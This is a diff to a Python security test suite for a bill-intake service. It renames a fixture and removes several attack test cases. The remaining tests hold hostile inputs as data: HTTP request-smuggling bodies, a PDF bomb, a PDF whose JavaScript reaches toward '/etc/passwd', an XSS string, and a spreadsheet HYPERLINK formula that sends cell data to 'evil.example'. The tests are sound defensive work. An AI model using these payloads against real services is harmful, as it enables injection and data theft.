@@ -12,7 +12,6 @@ import socket
 import uuid
 from collections.abc import Iterator
 from contextlib import ExitStack, suppress
-from dataclasses import dataclass, field
 from urllib.parse import urlsplit
 
 import psutil
@@ -23,7 +22,7 @@ from intake.objects import words_object
 from tests.pipeline.test_fields import answers_for, digits
 from tests.pipeline.test_refusals import assert_nothing_left
 from tests.security.bombs import laughing_pdf
-from tests.security.hostile_pdfs import HOSTILE, reaching_out
+from tests.security.hostile_pdfs import reaching_out
 from tests.specimens.catalogue import make
 from tests.support import documents
 from tests.support.stacks import quick_stack, running
@@ -34,28 +33,15 @@ SCRIPT = "<script>alert('owned')</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
-@dataclass
-class Run:
-    """What the attacks of this file left for the last test to look for.
-
-    Attributes:
-        submitter: Sends submissions and looks into everything.
-        secrets: Every value of a submission or a bill that went through.
-    """
-
-    submitter: Submitter
-    secrets: set[str] = field(default_factory=set)
-
-
 @pytest.fixture(scope="module")
-def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
+def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Submitter]:
     temporary = tmp_path_factory.mktemp("temporary")
     options = quick_stack(tmp_path_factory.mktemp("attacked"), function_env={"TMPDIR": str(temporary)})
     with running(options) as stack:
         # Each of its processes leads a session, which its descendants stay in even when they have lost their parents.
         sessions = {pid for name in stack.log_names() if (pid := stack.pid(name)) is not None}
         assert len(in_sessions(sessions)) > len(sessions)
-        yield Run(Submitter(stack))
+        yield Submitter(stack)
     wait_for("the end of all processes", lambda: not in_sessions(sessions))
     assert list(temporary.iterdir()) == []
 
@@ -70,9 +56,9 @@ def in_sessions(sessions: set[int]) -> list[int]:
     return found
 
 
-def raw(run: Run, request: bytes) -> bytes:
+def raw(attacked: Submitter, request: bytes) -> bytes:
     """Send bytes to the site as they are, and return what comes back until the connection ends."""
-    address = urlsplit(run.submitter.stack.url)
+    address = urlsplit(attacked.stack.url)
     with socket.create_connection((address.hostname, address.port), timeout=HOLD_S) as connection:
         connection.sendall(request)
         connection.shutdown(socket.SHUT_WR)
@@ -91,61 +77,57 @@ def head(key: str, *more: str, path: str = "/submit") -> bytes:
 BODY = b'--b\r\nContent-Disposition: form-data; name="bill"; filename="b"\r\n\r\n%PDF-1.7 ' + bytes(5000)
 LIES = {
     "length beyond the end": (["Content-Length: 9000000"], BODY),
-    "length before the end": (["Content-Length: 40"], BODY),
-    "length of no number": (["Content-Length: -1"], BODY),
     "two lengths": (["Content-Length: 5", "Content-Length: 5000"], BODY),
     "length and chunks": (["Content-Length: 5", "Transfer-Encoding: chunked"], b"0\r\n\r\nGET /sheet HTTP/1.1\r\n\r\n"),
     "chunk of no number": (["Transfer-Encoding: chunked"], b"zz\r\n" + BODY),
-    "chunk longer than it says": (["Transfer-Encoding: chunked"], b"5\r\n" + BODY + b"\r\n0\r\n\r\n"),
     "chunk shorter than it says": (["Transfer-Encoding: chunked"], b"ffffff\r\n" + BODY),
-    "chunk of 16 EiB": (["Transfer-Encoding: chunked"], b"ffffffffffffffff\r\n" + BODY),
-    "chunks without end": (["Transfer-Encoding: chunked"], b"%x\r\n%s\r\n" % (len(BODY), BODY)),
     "header of 100 KB": ([f"X-Long: {'x' * 100_000}", "Content-Length: 0"], b""),
-    "10,000 headers": ([f"X-{number}: x" for number in range(10_000)], b""),
 }
 
 
 @pytest.mark.parametrize("name", LIES)
-def test_requests_that_lie_about_their_length(run: Run, name: str) -> None:
+def test_requests_that_lie_about_their_length(attacked: Submitter, name: str) -> None:
     """A request whose frame does not hold is refused or cut off, and nothing of it is kept."""
     key = str(uuid.uuid4())
     headers, body = LIES[name]
-    answer = raw(run, head(key, *headers) + body)
+    answer = raw(attacked, head(key, *headers) + body)
     # A front may end the connection without a word; if it speaks it must not be of success, nor of more than one request.
     assert re.match(rb"(HTTP/1\.[01] 4\d\d |$)", answer) or answer.startswith(b"HTTP/1.1 502")
     assert answer.count(b"HTTP/1.") <= 1
-    assert_nothing_left(run.submitter, key)
+    assert_nothing_left(attacked, key)
 
 
-def test_slow_senders_do_not_keep_others_out(run: Run) -> None:
+def test_slow_senders_do_not_keep_others_out(attacked: Submitter) -> None:
     """Requests that are never finished hold a place each; others are served meanwhile, and nothing stays of them."""
     keys = [str(uuid.uuid4()) for _ in range(5)]
-    address = urlsplit(run.submitter.stack.url)
+    address = urlsplit(attacked.stack.url)
     with ExitStack() as open_ones:
         for key in keys:
             connection = open_ones.enter_context(
                 socket.create_connection((address.hostname, address.port), timeout=HOLD_S)
             )
             connection.sendall(head(key, "Content-Length: 9000000") + BODY)
-        row = run.submitter.recorded(documents.text_pdf(1))
+        row = attacked.recorded(documents.text_pdf(1))
         assert row["Status"]
     # Their connections are broken off now, which a function notices when it reads on.
-    run.submitter.recorded(documents.text_pdf(1))
+    attacked.recorded(documents.text_pdf(1))
 
 
-def test_bomb_fails_its_intake_and_the_next_bill_is_recorded(run: Run) -> None:
-    """With production's limits: fails with a reason that is true, files gone, and the same instance goes on."""
+def test_hostile_files_end_with_a_code_and_the_next_bill_is_recorded(attacked: Submitter) -> None:
+    """With production's limits: each fails with a reason that is true and leaves nothing; the same instance goes on."""
     instances = ocr_pids()
-    bomb = run.submitter.submit(laughing_pdf())
-    progress = run.submitter.ended(bomb)
-    assert progress["stage"] == "failed"
-    # It takes 23 MB and a second of the processor at a time: which runs out first is the machine's affair.
-    assert progress["error"]["code"] in ("file_too_slow", "file_too_large_in_memory")
-    assert run.submitter.objects(f"bills/{bomb}/") == []
-    assert run.submitter.objects(f"words/{bomb}/") == []
-    assert len(run.submitter.uploads(bomb)) == 1  # written down, so that the sweeper looks once more
-    run.submitter.recorded(documents.text_pdf(1))
+    bomb = attacked.submit(laughing_pdf())
+    outward = reaching_out(f"{attacked.stack.url}/evil", "/etc/passwd")["JavaScript"]
+    for intake_id in (bomb, attacked.submit(outward)):
+        progress = attacked.ended(intake_id)
+        if intake_id == bomb:
+            # It takes 23 MB and a second of the processor at a time: which runs out first is the machine's affair.
+            assert progress["error"]["code"] in ("file_too_slow", "file_too_large_in_memory")
+            assert attacked.objects(f"bills/{intake_id}/") == []
+            assert len(attacked.uploads(intake_id)) == 1  # written down, so that the sweeper checks once more
+    attacked.recorded(documents.text_pdf(1))
     assert ocr_pids() == instances
+    assert "/evil" not in attacked.stack.logs("gateway").read_text("utf-8", errors="replace")
 
 
 def ocr_pids() -> set[int]:
@@ -154,62 +136,27 @@ def ocr_pids() -> set[int]:
     return {process.pid for process in mine if process.cmdline()[-6:].count("ocr")}
 
 
-REPRESENTATIVE = ["page tree leads back", "picture smaller than it says", "pages that are not there"]
-OUTWARD = ["JavaScript", "contents elsewhere, by file"]
-
-
-def test_hostile_files_end_with_a_code_or_a_row(run: Run) -> None:
-    """Each hostile file's intake ends, and nothing of a failed one stays."""
-    intakes = {name: run.submitter.submit(HOSTILE[name]()) for name in REPRESENTATIVE}
-    intakes |= {
-        name: run.submitter.submit(data)
-        for name, data in reaching_out(f"{run.submitter.stack.url}/evil", "/etc/passwd").items()
-        if name in OUTWARD
-    }
-    for intake_id in intakes.values():
-        progress = run.submitter.ended(intake_id)
-        if progress["stage"] == "failed":
-            assert re.fullmatch(r"[a-z_]+", progress["error"]["code"])
-            assert run.submitter.objects(f"bills/{intake_id}/") == []
-    gateway = run.submitter.stack.logs("gateway").read_text("utf-8", errors="replace")
-    assert "/evil" not in gateway
-
-
-def test_names_of_files_lead_nowhere(run: Run) -> None:
-    """A file's name is in no object's name, and no object lies outside the intake's own folder."""
-    before = set(run.submitter.objects(""))
-    name = "../../../words/\u202e\U0001f4a9\\..\\passwd.pdf"
-    run.secrets |= {name, "passwd.pdf"}
-    answer = run.submitter.post([(name, documents.text_pdf(1))])
-    intake_id = answer.json()["intake_id"]
-    run.submitter.ended(intake_id)
-    new = set(run.submitter.objects("")) - before
-    pattern = rf"(bills/{intake_id}/[0-9a-f]{{16}}/01|words/{intake_id}/0001\.json)"
-    assert new
-    assert all(re.fullmatch(pattern, each) for each in new)
-
-
-def test_formulas_and_markup_stay_text_in_the_sheet(run: Run) -> None:
+def test_formulas_and_markup_stay_text_in_the_sheet(attacked: Submitter) -> None:
     """What an agent types and what a bill says reach the Sheet as text: no formula is made of it, no element of its page."""
     bill = documents.jpeg(documents.drawn([SCRIPT, FORMULA, "Account number total bill"]))
     typed = {"business_entity": FORMULA, "account_name": SCRIPT, "contact_name": "+1+1|cmd", "title": "@SUM(A1:A9)"}
-    answer = run.submitter.post([bill], {**ANSWERS, **typed})
+    answer = attacked.post([bill], {**ANSWERS, **typed})
     assert answer.status_code == 202
     intake_id = answer.json()["intake_id"]
-    assert run.submitter.ended(intake_id)["stage"] == "done"
-    row = run.submitter.table.find(intake_id)
+    assert attacked.ended(intake_id)["stage"] == "done"
+    row = attacked.table.find(intake_id)
     assert row is not None
     assert [row[title] for title in ("Business Entity", "Account Name", "Contact Name", "Title")] == list(
         typed.values()
     )
-    control = run.submitter.stack.control["sheets"]
+    control = attacked.stack.control["sheets"]
     grid = requests.get(f"{control}/control/grid", params={"tab": "Intakes", "render": "FORMULA"}, timeout=30).json()[
         "values"
     ]
     assert FORMULA in next(values for values in grid if intake_id in values)
-    tabs = requests.get(run.submitter.stack.sheet_url, timeout=30).text
+    tabs = requests.get(attacked.stack.sheet_url, timeout=30).text
     (gid,) = re.findall(r'href="\?gid=(\d+)"[^>]*>Intakes<', tabs)
-    page = requests.get(run.submitter.stack.sheet_url, params={"gid": gid}, timeout=30).text
+    page = requests.get(attacked.stack.sheet_url, params={"gid": gid}, timeout=30).text
     assert SCRIPT not in page
     assert "&lt;script&gt;alert(" in page
 
@@ -219,57 +166,49 @@ GUESSES = [
 ]  # fmt: skip
 
 
-def test_ids_cannot_be_guessed_or_listed(run: Run) -> None:
+def test_ids_cannot_be_guessed_or_listed(attacked: Submitter) -> None:
     """Whoever does not know an id gets the same 404 for every guess; there is no list, and ids are random."""
-    known = [run.submitter.submit(documents.text_pdf(1)) for _ in range(2)]
+    known = [attacked.submit(documents.text_pdf(1)) for _ in range(2)]
     assert len({intake_id[:8] for intake_id in known}) == 2
     answers = set()
     for guess in [*GUESSES, known[0][:-1], known[0].upper(), known[0][::-1]]:
-        answer = requests.get(f"{run.submitter.stack.url}/progress/{guess}", timeout=30)
+        answer = requests.get(f"{attacked.stack.url}/progress/{guess}", timeout=30)
         assert answer.status_code == 404, guess
         if answer.headers["Content-Type"].startswith("application/json"):
             answers.add(answer.text)
     assert len(answers) == 1
     for intake_id in known:
-        run.submitter.ended(intake_id)
+        attacked.ended(intake_id)
 
 
-def test_no_value_of_a_submission_is_in_a_log(run: Run) -> None:
+def test_no_value_of_a_submission_is_in_a_log(attacked: Submitter) -> None:
     """After bills were recorded, refused and failed, no log holds an answer, a name of a file or a word that was read."""
     specimen = make(21, "rge", "time_of_use")
     typed = {"contact_name": "Quentin Sample-Nobody", "phone": "607-555-0199", "email": "quentin.nobody@example.com",
              "title": "Chief Nobody Officer", "agent_id": "AG-7731"}  # fmt: skip
     answers = answers_for(specimen, **typed)
     files = [("Quentins electric bill.pdf", specimen.pdf())]
-    accepted = run.submitter.post(files, answers)
+    accepted = attacked.post(files, answers)
     intake_id = accepted.json()["intake_id"]
-    assert run.submitter.ended(intake_id)["stage"] == "done"
-    assert run.submitter.post(files, {**answers, "phone": "12 Secret Street"}).status_code == 422
-    failed = run.submitter.post([("Quentins broken bill.pdf", specimen.pdf()[:2000])], answers).json()["intake_id"]
-    run.submitter.ended(failed)
+    assert attacked.ended(intake_id)["stage"] == "done"
+    assert attacked.post(files, {**answers, "phone": "12 Secret Street"}).status_code == 422
+    failed = attacked.post([("Quentins broken bill.pdf", specimen.pdf()[:2000])], answers).json()["intake_id"]
+    attacked.ended(failed)
 
-    row = run.submitter.table.find(intake_id)
+    row = attacked.table.find(intake_id)
     assert row is not None
-    words = [word.text for word in run.submitter.words(intake_id, 1).words]
+    words = [word.text for word in attacked.words(intake_id, 1).words]
     read = {text for text in words if len(text) >= 6 and any(map(str.isdigit, text))}
     assert len(read) > 5
     truth = specimen.truth
     secrets = {*typed.values(), *read, truth.customer_name, truth.service_address, truth.pod_id, truth.account_number}
-    secrets |= {
-        digits(truth.account_number),
-        "Quentins",
-        "12 Secret Street",
-        FORMULA,
-        "HYPERLINK",
-        "alert(",
-        *run.secrets,
-    }
+    secrets |= {digits(truth.account_number), "Quentins", "12 Secret Street", FORMULA, "HYPERLINK", "alert("}
     secrets |= {str(row[title]) for title in ("Account Number", "PoD ID", "Service Address", "Customer Name")}
     secrets.discard("")
-    stack = run.submitter.stack
+    stack = attacked.stack
     logs = {name: stack.logs(name).read_text("utf-8", errors="replace") for name in stack.log_names()}
     assert any(intake_id in text for text in logs.values()), "the logs of this run are not the ones that were read"
-    assert words_object(intake_id, 1) in run.submitter.objects(f"words/{intake_id}/")
+    assert words_object(intake_id, 1) in attacked.objects(f"words/{intake_id}/")
     found = [(name, secret) for name, text in logs.items() for secret in secrets if secret and holds(text, secret)]
     assert found == []
 
